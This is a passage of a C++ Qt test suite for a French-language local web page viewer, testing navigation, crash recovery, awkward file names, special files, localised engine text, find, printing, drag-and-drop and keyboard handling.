               "<p style='height: 2000px'>page</p><script>window.mark = 'page'</script>"
               "</body></html>")
                  .toUtf8());
        TForm1& form = w.create({bytes(w.path("page.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("page.htm"), loadTimeout);
        QWidget* surface = w.viewer->view()->focusProxy();
        const QStringList steps = action.split(", ", Qt::SkipEmptyParts);
        for (qsizetype i = 0; i < steps.size(); ++i) {
            const QString& step = steps[i];
            if (step == "alt") {
                QTest::keyClick(surface, Qt::Key_Alt);
            } else if (step == "click") {
                QTest::mouseClick(surface, Qt::LeftButton, Qt::NoModifier, QPoint(30, 30));
            } else if (step == "type") {
                QTest::keyClicks(surface, "ab");
            } else if (step == "right") {
                w.clickLink("l", Qt::RightButton);
            } else if (step == "enter") {
                // The user reaches the link, the first in the page, with the Tab key.
                if (w.runScript("window.l !== undefined").toBool()) {
                    QTest::keyClick(surface, Qt::Key_Tab);
                    QTRY_VERIFY_WITH_TIMEOUT(w.runScript("document.activeElement === l").toBool(),
                                             loadTimeout);
                }
                QTest::keyClick(surface, Qt::Key_Return);
            } else if (step == "crash") {
                ::kill(static_cast<pid_t>(w.viewer->view()->page()->renderProcessPid()), SIGKILL);
            } else {
                // A load ends, shown or refused, before the next step.
                QSignalSpy ended(w.viewer->view()->page(), &QWebEnginePage::loadFinished);
                if (step == "back")
                    form.N1->trigger();
                else if (step == "forward")
                    form.N2->trigger();
                else
                    w.clickLink("l");
                if (i + 1 < steps.size())
                    QTRY_VERIFY_WITH_TIMEOUT(!ended.isEmpty(), loadTimeout);
            }
            surface = w.viewer->view()->focusProxy();
        }
        const QString expected =
            current == "page"    ? w.path("page.htm")
            : current == "other" ? w.path("other.htm")
            : current == "web" ? online + QRegularExpression("WEB(/\\w+)").match(markup).captured(1)
                               : QString();
        const auto currentPage = [] { return QFile::decodeName(Fichier_Courant.c_str()); };
        QTRY_COMPARE_WITH_TIMEOUT(currentPage(), expected, loadTimeout);
        // What the page tries happens within this time, or never.
        QTest::qWait(1500);
        QCOMPARE(currentPage(), expected);
        QCOMPARE(form.windowTitle(), expected);
        if (current == "page" && !steps.contains("crash"))
            QCOMPARE(w.runScript("window.mark").toString(), QString("page"));
        QVERIFY(QFile::exists(w.path("Documents/contrat.odt")));
    }

    // A page named on the command line that does not exist: its folder shows, saying so.
    void aMissingPageShowsItsFolderSayingSo()
    {
        RealWindow w;
        write(w.path("d/b.htm"), "<html><body>B</body></html>");
        w.create({bytes(w.path("d/gone.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("d/"), loadTimeout);
        QTRY_VERIFY_WITH_TIMEOUT(w.shows(QString::fromUtf8("« gone.htm » est introuvable")),
                                 loadTimeout);
        QVERIFY(w.shows("b.htm"));
    }

    // Documents of other kinds, and links that name a file by its full address, still show.
    void everyKindOfLocalDocumentShows_data()
    {
        QTest::addColumn<QString>("opened");
        QTest::addColumn<QString>("link"); // clicked once the opened page shows, if any
        QTest::addColumn<QString>("shown");
        QTest::addColumn<QString>("current");
        QTest::newRow("web archive") << "a.mht"
                                     << ""
                                     << "ARCHIVE-TEXT"
                                     << "a.mht";
        QTest::newRow("web archive .mhtml") << "a.mhtml"
                                            << ""
                                            << "ARCHIVE-TEXT"
                                            << "a.mhtml";
        QTest::newRow("folder") << "d"
                                << ""
                                << "b.htm"
                                << "d";
        QTest::newRow("link by a file address") << "links.htm"
                                                << "file"
                                                << "PAGE-B"
                                                << "d/b.htm";
        QTest::newRow("page with its own style sheet, font and script") << "styled.htm"
                                                                        << ""
                                                                        << "STYLED"
                                                                        << "styled.htm";
        QTest::newRow("link to a web archive") << "links.htm"
                                               << "archive"
                                               << "ARCHIVE-TEXT"
                                               << "a.mht";
    }
    void everyKindOfLocalDocumentShows()
    {
        QFETCH(QString, opened);
        QFETCH(QString, link);
        QFETCH(QString, shown);
        QFETCH(QString, current);
        RealWindow w;
        write(w.path("d/b.htm"), "<html><body><p>PAGE-B</p></body></html>");
        for (const char* archive : {"a.mht", "a.mhtml"})
            write(w.path(archive), "From: <Saved by a browser>\r\nMIME-Version: 1.0\r\n"
                                   "Content-Type: multipart/related; type=\"text/html\"; "
                                   "boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/html\r\n"
                                   "Content-Location: https://example.com/\r\n\r\n"
                                   "<html><body><p>ARCHIVE-TEXT</p></body></html>\r\n--B--\r\n");
        write(w.path("links.htm"),
              QStringLiteral("<html><body><a id=file href='%1'>b</a> <a id=archive href='a.mht'>a"
                             "</a></body></html>")
                  .arg(QUrl::fromLocalFile(w.path("d/b.htm")).toString())
                  .toUtf8());
        // Its script writes the mark once its style sheet and the font that this names apply.
        write(w.path("styled.htm"), "<html><head><link rel=stylesheet href='styled_files/s.css'>"
                                    "<script src='styled_files/s.js'></script></head>"
                                    "<body>page</body></html>");
        write(w.path("styled_files/s.css"),
              "@font-face { font-family: Own; src: url(f.ttf) } body { font-family: Own;"
              " color: rgb(1, 2, 3) }");
        QFile font("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf");
        QVERIFY2(font.open(QIODevice::ReadOnly), "package fonts-dejavu-core");
        write(w.path("styled_files/f.ttf"), font.readAll());
        write(w.path("styled_files/s.js"),
              "onload = () => document.fonts.load('12px Own').then(() => {"
              " if (document.fonts.check('12px Own') &&"
              " getComputedStyle(document.body).color == 'rgb(1, 2, 3)')"
              " document.body.append('STYLED') })");
        w.create({bytes(w.path(opened))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path(opened), loadTimeout);
        if (!link.isEmpty())
            w.clickLink(link);
        QTRY_COMPARE_WITH_TIMEOUT(Fichier_Courant, bytes(w.path(current)), loadTimeout);
        // Found by the find command: a web archive runs no script to ask.
        QTRY_VERIFY_WITH_TIMEOUT(w.shows(shown), loadTimeout);
    }

    void awkwardNamesReachTheViewerIntact_data()
    {
        QTest::addColumn<QByteArray>("name");
        QTest::newRow("not valid UTF-8") << QByteArray("\xE9t\xE9.htm");
        QTest::newRow("holding a newline") << QByteArray("two\nlines.htm");
        QTest::newRow("holding %20") << QByteArray("My%20Page.html");
        QTest::newRow("holding #") << QByteArray("a#b.htm");
        QTest::newRow("holding %41 and a space") << QByteArray("x%41 y.htm");
    }
    void awkwardNamesReachTheViewerIntact()
    {
        QFETCH(QByteArray, name);
        RealWindow w;
        const std::string page = bytes(w.dir.path()) + "/" + name.toStdString();
        {
            QFile file(QFile::decodeName(page.c_str()));
            FILE* raw = std::fopen(page.c_str(), "w");
            QVERIFY(raw);
            std::fputs("<html><body><p id=mark>MARK</p></body></html>", raw);
            std::fclose(raw);
        }
        w.create({page});
        QTRY_COMPARE_WITH_TIMEOUT(
            w.runScript("document.getElementById('mark') ? 'shown' : 'missing'").toString(),
            QString("shown"), loadTimeout);
        // Once the document completed, the current page is still the file shown.
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), QFile::decodeName(page.c_str()), loadTimeout);
        QCOMPARE(Fichier_Courant, page);
    }

    void specialFilesLeaveAWorkingWindow()
    {
        RealWindow w;
        const std::string fifo = bytes(w.path("pipe.htm"));
        QCOMPARE(::mkfifo(fifo.c_str(), 0600), 0);
        write(w.path("binary.htm"), QByteArray(4096, '\0') + pngPicture());
        write(w.path("ok.htm"), "<html><body><p id=mark>OK</p></body></html>");
        TForm1& form = w.create({fifo});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("pipe.htm"), loadTimeout);
        for (const char* other : {"/dev/zero", "binary.htm", "missing.htm"}) {
            const QString target = other[0] == '/' ? QString(other) : w.path(other);
            w.dialogs.openAnswers = {bytes(target)};
            form.Load1->trigger();
        }
        w.dialogs.openAnswers = {bytes(w.path("ok.htm"))};
        form.Load1->trigger();
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("ok.htm"), loadTimeout);
        QVERIFY(w.dialogs.errors.empty());
    }

    void theEngineSpeaksFrench()
    {
        RealWindow w;
        write(w.path("a.htm"), "<html><body><p>Texte</p><a href=\"b.htm\">lien</a></body></html>");
        w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        QCOMPARE(w.runScript("navigator.language").toString(), QString("fr"));

        // The context menu: French, and nothing that would take the page out of the viewer.
        QWidget* surface = w.viewer->view()->focusProxy();
        QTest::mouseClick(surface, Qt::RightButton, Qt::NoModifier, QPoint(20, 20));
        QMenu* menu = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT((menu = visibleMenu()) != nullptr, loadTimeout);
        QStringList texts;
        for (QAction* action : menu->actions())
            if (!action->isSeparator())
                texts << action->text();
        QVERIFY2(texts.contains(QString::fromUtf8("Page précédente")), qPrintable(texts.join('|')));
        QVERIFY2(texts.contains("Actualiser"), qPrintable(texts.join('|')));
        for (const QString& text : texts)
            for (const char* leaving : {"Enregistrer", "nouvel", "source", "Inspecter"})
                QVERIFY2(!text.contains(QString::fromUtf8(leaving)), qPrintable(text));
        menu->close();

        // A page's script dialog.
        QString caption;
        QTimer::singleShot(300, [&] {
            if (QWidget* box = QApplication::activeModalWidget()) {
                caption = box->windowTitle();
                box->close();
            }
        });
        w.runScript("alert('Bonjour')");
        QTRY_VERIFY_WITH_TIMEOUT(caption.startsWith("Message de la page"), loadTimeout);

        // The engine's own error page.
        w.viewer->Navigate(bytes(w.path("nothere.htm")));
        QTRY_VERIFY_WITH_TIMEOUT(w.runScript("document.body ? document.body.innerText : ''")
                                     .toString()
                                     .contains(QString::fromUtf8("Impossible d'accéder")),
                                 loadTimeout);
    }

    void crashedPageLeavesANotice()
    {
        RealWindow w;
        write(w.path("a.htm"), "<html><body>A</body></html>");
        w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        w.viewer->Navigate("chrome://crash");
        QTRY_VERIFY_WITH_TIMEOUT(w.runScript("document.body ? document.body.innerText : ''")
                                     .toString()
                                     .contains("interrompu"),
                                 loadTimeout);
        QCOMPARE(Fichier_Courant, bytes(w.path("a.htm")));
        QVERIFY(w.dialogs.errors.empty());
    }

    void dropOnThePageOpensTheFile()
    {
        RealWindow w;
        write(w.path("a.htm"), "<html><body>A</body></html>");
        write(w.path("b.htm"), "<html><body>B</body></html>");
        w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        // The drop lands on the innermost widget of the viewer, as a real drop would.
        QWidget* target = w.viewer->view();
        const QList<QWidget*> inner = target->findChildren<QWidget*>();
        if (!inner.isEmpty())
            target = inner.last();
        QMimeData data;
        data.setUrls({QUrl::fromLocalFile(w.path("b.htm"))});
        QDragEnterEvent enter(QPoint(5, 5), Qt::CopyAction, &data, Qt::LeftButton, Qt::NoModifier);
        QCoreApplication::sendEvent(target, &enter);
        QDropEvent dropped(QPointF(5, 5), Qt::CopyAction, &data, Qt::LeftButton, Qt::NoModifier);
        QCoreApplication::sendEvent(target, &dropped);
        QTRY_COMPARE_WITH_TIMEOUT(Fichier_Courant, bytes(w.path("b.htm")), loadTimeout);
    }

    void findReportsTheMatchesOfThePage()
    {
        RealWindow w;
        write(w.path("a.htm"), "<html><body><p>chat Chat chat</p><p>CHAT</p></body></html>");
        TForm1& form = w.create();
        form.Trouver1->trigger(); // no document yet: nothing opens
        QVERIFY(!form.findChild<FindDialog*>());
        w.dialogs.openAnswers = {bytes(w.path("a.htm"))};
        form.Load1->trigger();
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        form.Trouver1->trigger();
        auto* dialog = form.findChild<FindDialog*>();
        QVERIFY(dialog);
        QVERIFY(dialog->isVisible());
        QVERIFY(!dialog->isModal());
        dialog->findChild<QLineEdit*>()->setText("chat");
        QTRY_VERIFY_WITH_TIMEOUT(dialog->resultText().endsWith(" sur 4"), loadTimeout);
    }

    void printWithoutPrinterIsAFrenchError()
    {
        const QByteArray server = qgetenv("CUPS_SERVER");
        qputenv("CUPS_SERVER", QByteArray(deadCupsSocket()));
        cupsSetServer(nullptr);
        RealWindow w;
        write(w.path("a.htm"), "<html><body>Une page</body></html>");
        TForm1& form = w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        form.Imprimer1->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(!w.dialogs.errors.empty(), loadTimeout);
        QVERIFY2(w.dialogs.errors[0].startsWith("Aucune imprimante"),
                 qPrintable(w.dialogs.errors[0]));
        QVERIFY(w.dialogs.errors[0].endsWith('.'));
        if (server.isNull())
            qunsetenv("CUPS_SERVER");
        else
            qputenv("CUPS_SERVER", server);
        cupsSetServer(nullptr);
    }

    void printSendsTheShownPageToTheDefaultQueue()
    {
        const QString output = qEnvironmentVariable("VELMO_CUPS_OUTPUT");
        if (output.isEmpty() || QFile::exists(output + "/unavailable"))
            QSKIP("no CUPS scheduler with a cups-pdf queue (see the cups_scheduler test)");
        RealWindow w;
        write(w.path("a.htm"), "<html><body><h1>Page imprimée</h1></body></html>");
        TForm1& form = w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        const QStringList before = QDir(output).entryList({"job_*.pdf"}, QDir::Files);
        form.Imprimer1->trigger();
        QStringList made;
        QTRY_VERIFY_WITH_TIMEOUT(
            (made = QDir(output).entryList({"job_*.pdf"}, QDir::Files)).size() > before.size(),
            60000);
        QVERIFY(w.dialogs.errors.empty());
        for (const QString& name : made)
            if (!before.contains(name))
                QFile::remove(output + "/" + name);
    }

    void windowKeysReachTheWindowFromThePage()
    {
        RealWindow w;
        write(w.path("a.htm"), "<html><body><input id=field><div id=area contenteditable>x</div>"
                               "</body></html>");
        write(w.path("b.htm"), "<html><body>B</body></html>");
        TForm1& form = w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        QVERIFY(QTest::qWaitForWindowActive(&form));
        // The engine's own widget, which a click in the page gives the focus.
        const auto surface = [&] { return w.viewer->view()->focusProxy(); };
        QVERIFY(surface());
        surface()->setFocus();
        QTRY_VERIFY(surface()->hasFocus());
        const auto press = [&](Qt::Key key) {
            QTest::keyClick(form.windowHandle(), key, Qt::ControlModifier);
        };
        const auto typingInPage = [&] {
            return surface()->inputMethodQuery(Qt::ImEnabled).toBool();
        };

        // The focus in the page, in no field: every key is the window's.
        QVERIFY(!typingInPage());
        press(Qt::Key_Z);
        QCOMPARE(w.windowKeys, std::vector<std::string>{"undo"});
        press(Qt::Key_PageDown);
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("b.htm"), loadTimeout);
        press(Qt::Key_PageUp);
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        w.windowKeys.clear();

        // In a text field, or an editable area, Ctrl+Z is the page's (to undo the typing); the
        // keys that change pages stay the window's.
        for (const char* element : {"field", "area"}) {
            w.runScript(QStringLiteral("document.getElementById('%1').focus()").arg(element));
            QTRY_VERIFY(typingInPage());
            // The page came back in a new drawing widget, which gets the focus again.
            QTRY_VERIFY(surface()->hasFocus());
            press(Qt::Key_Z);
            press(Qt::Key_PageUp); // the first page: nothing before it
            QCOMPARE(w.windowKeys, std::vector<std::string>{"previous"});
            w.runScript("document.activeElement.blur()");
            QTRY_VERIFY(!typingInPage());
            w.windowKeys.clear();
        }
    }

private:
    static QMenu* visibleMenu()
    {
        for (QWidget* widget : QApplication::topLevelWidgets())
            if (auto* menu = qobject_cast<QMenu*>(widget); menu && menu->isVisible())
                return menu;
        return nullptr;
    }

    static const char* deadCupsSocket() { return "/nonexistent-velmo/cups.sock"; }
};

VELMO_WEB_TEST_MAIN(TestWebViewer)
#include "tst_web_viewer.moc"
